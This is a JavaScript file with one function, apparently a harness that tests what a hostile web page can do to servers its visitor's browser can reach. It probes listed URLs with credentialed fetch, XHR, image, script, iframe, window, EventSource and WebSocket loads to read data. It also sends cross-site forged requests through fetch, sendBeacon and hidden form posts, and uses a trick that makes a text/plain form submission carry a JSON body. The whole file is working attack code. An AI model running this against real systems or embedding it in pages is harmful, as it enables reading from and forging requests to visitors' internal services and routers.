// What a foreign page tries against servers that its visitor's browser can reach. It returns
// whatever it could see of them: the way, the address, the status where there is one, and text.
async function attack({ readable, windows, writable, control }) {
  const seen = [];
  const note = (how, url, status, text) => seen.push({ how, url, status, text: String(text).slice(0, 300) });
  const tries = [];
  const within = start => tries.push(new Promise(done => { setTimeout(done, 4000); start(done); }));
  const element = (kind, set, url, text) => within(done => {
    const e = document.createElement(kind);
    e.onload = () => { const t = text(e); if (t !== null) note(kind, url, 0, t); done(); };
    e.onerror = done;
    set(e);
    document.body.append(e);
  });

  for (const url of [...readable, control]) {
    for (const mode of ['cors', 'no-cors', 'same-origin']) {
      within(done => fetch(url, { mode, credentials: 'include', cache: 'no-store' })
        .then(async r => { const text = await r.text(); if (r.type !== 'opaque' || text) note('fetch ' + mode, url, r.status, text); })
        .catch(() => {}).finally(done));
    }
    within(done => {
      const x = new XMLHttpRequest();
      x.onload = () => { note('request', url, x.status, x.responseText); done(); };
      x.onerror = done;
      x.open('GET', url);
      x.withCredentials = true;
      x.send();
    });
    element('img', e => { e.src = url; }, url, e => e.naturalWidth + ' pixels');
    element('script', e => { e.src = url; }, url, () => 'executed');
    element('link', e => { e.rel = 'stylesheet'; e.href = url; }, url, () => 'applied');
    element('iframe', e => { e.src = url; }, url, e => {
      try { return e.contentDocument && e.contentDocument.body.innerText || null; } catch { return null; }
    });
  }
  for (const url of windows) {
    within(done => {
      const w = window.open(url);
      setTimeout(() => {
        try { if (w.location.href !== 'about:blank') note('window', url, 0, w.document.body.innerText); } catch { /* of another origin */ }
        if (w) w.close();
        done();
      }, 2000);
    });
  }
  for (const url of readable) {
    within(done => {
      const e = new EventSource(url, { withCredentials: true });
      e.onopen = () => note('events', url, 0, 'open');
      e.onmessage = m => note('events', url, 0, m.data);
      e.onerror = () => { e.close(); done(); };
    });
    within(done => {
      const s = new WebSocket(url.replace('http://', 'ws://'));
      s.onopen = () => { note('socket', url, 0, 'open'); s.close(); };
      s.onclose = done;
    });
  }
  for (const { method, url, body, form } of writable) {
    const sent = form ? new URLSearchParams(form).toString() : body;
    for (const mode of ['cors', 'no-cors']) {
      for (const type of ['application/json', 'text/plain', 'application/x-www-form-urlencoded']) {
        within(done => fetch(url, { method, mode, body: sent, headers: { 'Content-Type': type }, credentials: 'include' })
          .then(async r => { const text = await r.text(); if (r.type !== 'opaque') note(method + ' ' + mode + ' ' + type, url, r.status, text); })
          .catch(() => {}).finally(done));
      }
    }
    if (method === 'POST') {
      navigator.sendBeacon(url, sent);
      navigator.sendBeacon(url, new URLSearchParams(form ?? {}));
      for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
        within(done => {
          const frame = document.createElement('iframe');
          frame.name = 'f' + Math.random();
          frame.onload = done;
          document.body.append(frame);
          submit(url, form ?? asJSON(body), enctype, frame.name);
        });
      }
    }
  }
  await Promise.all(tries);
  return seen;
}

// asJSON returns a field that is JSON when it is sent as text/plain: the name and the value,
// with = between them, are the body.
function asJSON(body) {
  return { [body.slice(0, -1) + ',"x":"']: '"}' };
}

// submit sends a form; without a target it leads the visitor away.
function submit(url, fields, enctype, target) {
  const form = document.createElement('form');
  Object.assign(form, { method: 'POST', action: url, enctype, target: target ?? '' });
  for (const [name, value] of Object.entries(fields)) {
    const field = document.createElement('input');
    Object.assign(field, { name, value });
    form.append(field);
  }
  document.body.append(form);
  HTMLFormElement.prototype.submit.call(form);
}
